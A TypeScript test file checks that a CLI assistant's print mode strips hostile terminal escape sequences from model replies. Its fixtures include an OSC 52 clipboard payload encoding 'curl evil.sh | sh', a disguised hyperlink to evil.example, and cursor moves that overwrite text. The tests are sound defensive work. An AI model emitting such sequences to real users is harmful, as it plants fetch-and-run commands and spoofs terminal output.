/**
 * Print mode under attack: a model reply full of terminal escape sequences must not reach
 * the user's terminal in plain-text output (while `--json` keeps the text exact), and a
 * `browse` call with process tools on auto must not end the process (it used to exit 13).
 */
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startScriptedServer, type ScriptedServer } from '../helpers/scriptedServer.js';
import { runCogito } from '../helpers/cogitoProcess.js';

const KEY = 'sk-print-attack-key';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const OSC8 = '\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\';
const CURSOR = '\x1b[2A\x1b[2K\rall good\x1b[10;10H';
const C1_CSI = '\u009b31m';

describe('print mode against hostile model text', () => {
  let server: ScriptedServer;
  let ws: string;
  let home: string;
  let env: Record<string, string>;

  beforeEach(async () => {
    server = await startScriptedServer({ requireKey: KEY });
    ws = await mkdtemp(path.join(os.tmpdir(), 'cogito-pa-ws-'));
    home = await mkdtemp(path.join(os.tmpdir(), 'cogito-pa-home-'));
    env = { COGITO_API_KEY: KEY, COGITO_BASE_URL: server.url, COGITO_MODEL: 'scripted' };
  });
  afterEach(async () => {
    await server.close();
    await rm(ws, { recursive: true, force: true });
    await rm(home, { recursive: true, force: true });
  });

  it('plain text drops OSC 52, OSC 8, cursor moves and C1 controls, even split across chunks', async () => {
    const reply = `copy ${OSC52}this ${OSC8} then ${CURSOR} and ${C1_CSI}red [WAIT]`;
    // One character per chunk: every sequence arrives split over many deltas.
    server.push({ kind: 'stream', content: [...reply], reasoning: `think ${OSC52}hard` });
    const run = runCogito(['-p', 'hi', '--verbose', '--workspace', ws, '--home', home], env);
    expect(await run.code).toBe(0);
    // stdout holds the reply (its [WAIT] marker dropped), stderr the reasoning: both filtered.
    const out = run.stdout() + run.stderr();
    expect(run.stdout()).toBe('copy this click here then all good and red\n');
    expect(out).toContain('think hard');
    expect(out).not.toContain('\x1b');
    expect(out).not.toContain('\x07');
    expect(out).not.toContain('\r');
    expect(out).not.toContain('\u009b');
    expect(out).not.toContain('52;c;');
    expect(out).not.toContain('evil.example');
  });

  it('--json keeps the model text exact', async () => {
    const reply = `copy ${OSC52}this [WAIT]`;
    server.push({ kind: 'stream', content: reply });
    const run = runCogito(['-p', 'hi', '--json', '--workspace', ws, '--home', home], env);
    expect(await run.code).toBe(0);
    const text = run
      .stdout()
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; delta?: string })
      .filter((e) => e.type === 'message_update')
      .map((e) => e.delta)
      .join('');
    expect(text).toBe(reply);
  });

  it('browse with process tools on auto does not end the process', async () => {
    // A stand-in for xdg-open: records the URL and keeps running like a browser would.
    const bin = await mkdtemp(path.join(os.tmpdir(), 'cogito-pa-bin-'));
    const opened = path.join(bin, 'opened.txt');
    const opener = path.join(bin, 'xdg-open');
    await writeFile(opener, `#!/bin/sh\necho "$1" > "${opened}"\nexec sleep 3\n`);
    await chmod(opener, 0o755);
    await writeFile(
      path.join(home, 'config.json'),
      JSON.stringify({ approval: { process: 'auto' } }),
    );
    server.push(
      { kind: 'stream', content: 'Opening it.\n[TOOL] browse("http://example.com/page") [/TOOL]' },
      { kind: 'stream', content: 'Opened. [WAIT]' },
    );
    try {
      const run = runCogito(['-p', 'show me', '--workspace', ws, '--home', home], {
        ...env,
        PATH: `${bin}:${process.env.PATH ?? ''}`,
      });
      expect(await run.code).toBe(0);
      expect(run.stderr()).toMatch(/✓ browse\("http:\/\/example.com\/page"\)/);
      expect(run.stdout()).toContain('Opened.\n');
      expect(server.requests).toHaveLength(2);
      expect((await readFile(opened, 'utf8')).trim()).toBe('http://example.com/page');
    } finally {
      await rm(bin, { recursive: true, force: true });
    }
  });
});
